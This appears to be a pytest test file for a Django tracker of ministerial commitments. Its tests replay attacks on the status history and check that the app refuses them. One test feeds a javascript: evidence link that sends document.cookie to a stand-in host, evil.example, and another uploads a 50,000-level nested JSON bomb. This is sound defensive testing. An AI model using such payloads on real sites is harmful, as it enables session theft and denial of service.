"""Replaying the attacks on the record itself: forged status history, hostile links, hostile JSON,
racing imports, and edits that go round the services.

The attacker is a careful tester with an editor's account (and, where it says so, an administrator
making an honest mistake). Each test replays one attack through the way a user reaches the
application (the upload page, the forms, the admin, over HTTP with Django's test client) and checks
that the record stays true: every entry attributed to whoever made it, when they made it, with a
date that can have been observed, and nothing half-written.
"""

import datetime
import json
import threading
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connections
from django.urls import reverse
from django.utils import timezone

from tests.factories import CommitmentFactory, UserFactory, exported_question
from tracker.models import Commitment, ImportRun, Person, Question, Status, StatusUpdate
from tracker.roles import Role

pytestmark = pytest.mark.django_db

SEED = Path(__file__).resolve().parent.parent.parent / "tracker" / "demo" / "documents" / "vraag-551-2017-2018.txt"


def export_file(*history: dict, name: str = "export.json") -> SimpleUploadedFile:
    """An export-shaped file with one question, one commitment and the given status history."""
    question = exported_question(**{"commitments.0.status_history": list(history)})
    document = {"format": "commitment-tracker/1", "questions": [question]}
    return SimpleUploadedFile(name, json.dumps(document).encode(), content_type="application/json")


def entry(**fields) -> dict:
    return {"status": "in_progress", "observed_on": "2019-03-01", "note": "", **fields}


def upload(client, *files, **data):
    response = client.post("/import/", {"files": list(files), **data})
    assert response.status_code == 200, response.status_code
    return response.context["run"]


def test_an_upload_that_names_another_author_and_time_is_recorded_as_the_uploader_now(editor_client, editor):
    """The editor's file says the update was recorded "by admin" in 2019: it is recorded by the
    editor, at the moment of the upload. The file's author and time never reach the record."""
    UserFactory(username="admin", role=Role.ADMINISTRATOR)
    before = timezone.now()
    run = upload(editor_client, export_file(entry(recorded_by="admin", recorded_at="2019-03-02T09:30:00+01:00")))
    assert run.failed == 0, run.report
    forged = StatusUpdate.objects.get(status="in_progress")
    assert (forged.recorded_by, forged.recorded_by_name) == (editor, "")
    assert forged.recorded_at >= before
    assert not StatusUpdate.objects.filter(recorded_by__username="admin").exists()


def test_an_upload_cannot_restore_even_when_it_asks_to(editor_client, editor):
    """The editor adds restore=on to the upload form (an administrator's action): the upload is an
    import like any other, recorded as the editor."""
    run = upload(editor_client, export_file(entry(recorded_by="admin", recorded_at="2019-03-02T09:30:00+01:00")), restore="on")
    assert run.origin == ImportRun.Origin.UPLOAD
    assert StatusUpdate.objects.get(status="in_progress").recorded_by == editor


@pytest.mark.parametrize(
    ("observed_on", "reason"),
    [
        ("2099-03-01", "The date observed cannot lie in the future."),
        ("2018-01-01", "The date observed cannot lie before the commitment was made (2018-07-19)."),
    ],
)
def test_an_update_dated_in_2099_or_before_the_promise_is_refused_and_nothing_is_written(editor_client, observed_on, reason):
    """An update observed in 2099 would stay the current status for good (one typo in a year does
    the same by accident). The document fails with the reason; not even its question is written."""
    run = upload(editor_client, export_file(entry(observed_on=observed_on)))
    assert [(e["outcome"], reason in e["reason"]) for e in run.report] == [("failed", True)]
    assert not Question.objects.exists()
    assert not StatusUpdate.objects.exists()


def test_a_javascript_evidence_link_is_refused_on_every_way_in(editor_client):
    """A `javascript:` evidence URL, refused by the status form, was accepted by the import and shown
    as a link. Every way in now refuses it: the import, the form, and the admin."""
    run = upload(editor_client, export_file(entry(evidence_url="javascript:fetch('//evil.example/'+document.cookie)")))
    assert run.report[0]["outcome"] == "failed"
    assert "http:// or https://" in run.report[0]["reason"]
    commitment = CommitmentFactory()
    response = editor_client.post(
        f"/commitments/{commitment.pk}/status/",
        {"status": "in_progress", "observed_on": "2019-03-01", "evidence_url": "javascript:alert(1)"},
    )
    assert response.status_code == 400
    assert response.context["status_form"].errors["evidence_url"] == ["Give a web address that starts with http:// or https://."]
    assert "javascript:" not in "".join(StatusUpdate.objects.values_list("evidence_url", flat=True))


def test_a_2099_update_made_by_mistake_is_voided_by_an_administrator_and_stops_counting(admin_client):
    """Before this was fixed, an update from 2099 stayed current forever: updates cannot be deleted
    and the form refuses future dates. Restored from an old installation, one still may arrive: an
    administrator voids it, with a reason, and the status is right again. The update stays visible."""
    commitment = CommitmentFactory()
    mistake = StatusUpdate.objects.create(  # as an old, unchecked import left it
        commitment=commitment, status=Status.FULFILLED, observed_on=datetime.date(2099, 1, 1), recorded_at=timezone.now()
    )
    Commitment.objects.filter(pk=commitment.pk).update(current_status=Status.FULFILLED)
    response = admin_client.post(f"/status-updates/{mistake.pk}/void/", {"reason": "Tikfout: 2099 moet 2019 zijn."})
    assert response.status_code == 302
    commitment.refresh_from_db()
    assert commitment.current_status == Status.ANNOUNCED
    assert StatusUpdate.objects.filter(pk=mistake.pk).exists()
    assert "Tikfout: 2099 moet 2019 zijn." in admin_client.get(commitment.get_absolute_url()).content.decode()


def test_an_editor_cannot_void_or_restore(editor_client):
    """Voiding and restoring keep or rewrite the record's authorship: administrators only."""
    commitment = CommitmentFactory()
    update = commitment.status_updates.get()
    assert editor_client.post(f"/status-updates/{update.pk}/void/", {"reason": "Weg."}).status_code == 403
    assert not hasattr(StatusUpdate.objects.get(pk=update.pk), "void")


def test_a_deeply_nested_json_upload_gets_a_clear_message_and_the_run_finishes(editor_client):
    """A JSON file of 50,000 nested lists made the parser give up with a 500 and left an import run
    "running" forever in Recent imports. It is refused by name, with the limit, and the run ends."""
    bomb = SimpleUploadedFile("bomb.json", b"[" * 50_000 + b"]" * 50_000, content_type="application/json")
    run = upload(editor_client, bomb)
    assert run.report[0]["reason"] == "the JSON nests 50000 levels deep; the limit is 32 (an export needs 8)"
    assert ImportRun.objects.get().finished_at is not None
    assert "still running" not in editor_client.get("/import/").content.decode()


def test_history_in_the_admin_cannot_be_rewritten_through_its_inline(admin_client):
    """The administrator's change form lists the history below the commitment. Posting changed
    values for those rows (a forged form) changes nothing: the history is read-only there."""
    commitment = CommitmentFactory()
    update = commitment.status_updates.get()
    url = reverse("admin:tracker_commitment_change", args=[commitment.pk])
    form = admin_client.get(url).context["adminform"].form
    payload = {name: value for name, value in form.initial.items() if value is not None}
    payload.update(
        {
            "responsible_person": commitment.responsible_person_id,
            "deadline": commitment.deadline.isoformat(),
            "status_updates-TOTAL_FORMS": "1",
            "status_updates-INITIAL_FORMS": "1",
            "status_updates-MIN_NUM_FORMS": "0",
            "status_updates-MAX_NUM_FORMS": "1000",
            "status_updates-0-id": update.pk,
            "status_updates-0-commitment": commitment.pk,
            "status_updates-0-status": "fulfilled",
            "status_updates-0-observed_on": "2099-01-01",
        }
    )
    admin_client.post(url, payload)
    update.refresh_from_db()
    assert (update.status, update.observed_on) == (Status.ANNOUNCED, commitment.made_on)


def test_a_deadline_moved_in_the_admin_is_attributed_and_explained(admin_client, administrator):
    """The admin used to save commitments directly: a deadline moved there left no reason. It now
    goes through the deadline service: a reason is required and kept, with the administrator."""
    commitment = CommitmentFactory()
    url = reverse("admin:tracker_commitment_change", args=[commitment.pk])
    form = admin_client.get(url).context["adminform"].form
    payload = {name: value for name, value in form.initial.items() if value is not None}
    payload.update(
        {
            "responsible_person": commitment.responsible_person_id,
            "deadline": "2030-12-31",
            "deadline_source": "staff",
            "status_updates-TOTAL_FORMS": "1",
            "status_updates-INITIAL_FORMS": "1",
            "status_updates-MIN_NUM_FORMS": "0",
            "status_updates-MAX_NUM_FORMS": "1000",
        }
    )
    assert admin_client.post(url, payload).status_code == 200, "no reason: refused"
    assert admin_client.post(url, {**payload, "reason": "Verlengd door de minister."}).status_code == 302
    latest = Commitment.objects.get(pk=commitment.pk).history.latest("history_date")
    assert (latest.history_user, latest.history_change_reason) == (administrator, "Verlengd door de minister.")


@pytest.mark.django_db(transaction=True)
def test_ten_simultaneous_imports_of_one_new_document_make_one_asker(postgres_only, reference_data):
    """Ten uploads of the same new document at the same instant created its asker twice (each import
    checked, found nobody, and inserted). People are now claimed by their name's unique key, and an
    import that lost the race for the question tries once more: one question, one asker, no failure."""
    from tracker.imports.runner import import_documents

    barrier, runs, errors = threading.Barrier(10), [], []

    def one_upload():
        try:
            barrier.wait(timeout=30)
            runs.append(import_documents([(SEED.name, SEED.read_bytes())], origin=ImportRun.Origin.UPLOAD))
        except BaseException as error:
            errors.append(error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=one_upload) for _ in range(10)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert errors == []
    assert [entry["outcome"] for run in runs for entry in run.report].count("failed") == 0
    assert Question.objects.count() == 1
    assert Person.objects.filter(last_name="Franssen").count() == 1
